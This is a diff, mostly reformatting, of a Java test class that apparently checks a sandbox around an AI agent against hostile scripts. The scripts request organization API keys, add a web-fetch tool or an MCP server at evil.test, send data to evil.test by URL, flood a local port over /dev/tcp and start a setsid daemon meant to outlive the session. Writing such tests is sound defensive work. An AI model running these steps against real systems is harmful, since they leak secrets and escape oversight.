@@ -36,7 +36,8 @@ final class HostileProgramTest {
     Path folder = Path.of("");
 
     private WorkPlace place(LoopbackModel server, String script) {
-        String start = TRY.formatted(folder.resolve("outside"), URI.create(server.address()).getPort());
+        String start = TRY.formatted(
+                folder.resolve("outside"), URI.create(server.address()).getPort());
         return new WorkPlace(folder, "claude", server, start + script);
     }
 
@@ -78,8 +79,11 @@ final class HostileProgramTest {
         StringBuilder script = new StringBuilder();
         deeds.lines().forEach(line -> {
             int colon = line.indexOf(": ");
-            script.append("deed '").append(line.substring(0, colon).replace("'", "")).append("' '")
-                    .append(line.substring(colon + 2).replace("'", "'\\''")).append("'\n");
+            script.append("deed '")
+                    .append(line.substring(0, colon).replace("'", ""))
+                    .append("' '")
+                    .append(line.substring(colon + 2).replace("'", "'\\''"))
+                    .append("'\n");
         });
         try (LoopbackModel server = server()) {
             WorkPlace place = place(server, script + "echo 'sane' >>src/seen.txt\n" + FINISH);
@@ -110,17 +114,24 @@ final class HostileProgramTest {
                 "GET /v1/organizations/api_keys");
         StringBuilder script = new StringBuilder();
         for (String request : requests) {
-            script.append("deed '").append(request).append("' 'ask \"").append(request)
+            script.append("deed '")
+                    .append(request)
+                    .append("' 'ask \"")
+                    .append(request)
                     .append(" HTTP/1.1\" \"{}\" | grep -a \" 200 \"'\n");
         }
         for (String body : List.of(
                 "{\"tools\":[{\"type\":\"web_fetch_20250910\"}]}",
                 "{\"mcp_servers\":[{\"url\":\"https://evil.test\"}]}",
                 "{\"messages\":[{\"content\":[{\"source\":{\"type\":\"url\",\"url\":\"https://evil.test/?data\"}}]}]}")) {
-            script.append("body='").append(body).append("'\n")
-                    .append("deed 'the service for it' 'ask \"POST /v1/messages HTTP/1.1\" \"$body\" | grep -a \" 200 \"'\n");
+            script.append("body='")
+                    .append(body)
+                    .append("'\n")
+                    .append(
+                            "deed 'the service for it' 'ask \"POST /v1/messages HTTP/1.1\" \"$body\" | grep -a \" 200 \"'\n");
         }
-        script.append("deed 'flood' 'for i in $(seq 100); do exec {f}<>/dev/tcp/127.0.0.1/8118; done; sleep 1; false'\n");
+        script.append(
+                "deed 'flood' 'for i in $(seq 100); do exec {f}<>/dev/tcp/127.0.0.1/8118; done; sleep 1; false'\n");
         try (LoopbackModel server = server()) {
             WorkPlace place = place(server, script + FINISH);
             JsonNode work = place.work("hosts", "api.allowed.test:443");
@@ -183,7 +194,8 @@ final class HostileProgramTest {
     void aDaemonDoesNotOutliveIt() throws Exception {
         try (LoopbackModel server = server()) {
             WorkPlace place = place(
-                    server, "setsid sh -c 'while :; do echo x >>/work/src/main.txt; sleep 0.1; done' >/dev/null 2>&1 &\nsleep 0.3\n"
+                    server,
+                    "setsid sh -c 'while :; do echo x >>/work/src/main.txt; sleep 0.1; done' >/dev/null 2>&1 &\nsleep 0.3\n"
                             + FINISH);
             assertThat(WorkPlace.added(place.work())).contains("x");
             assertNothingIsLeft();
@@ -242,7 +254,9 @@ final class HostileProgramTest {
 
     private static void assertUntouched(WorkPlace place) throws IOException {
         try (Stream<Path> files = Files.list(place.outside())) {
-            assertThat(files).extracting(file -> String.valueOf(file.getFileName())).containsExactly("secret.txt");
+            assertThat(files)
+                    .extracting(file -> String.valueOf(file.getFileName()))
+                    .containsExactly("secret.txt");
         }
         assertThat(Files.readString(place.repository().resolve("check.sh"))).contains("grep");
         assertThat(place.repository().resolve(".git/hooks/post-checkout")).doesNotExist();
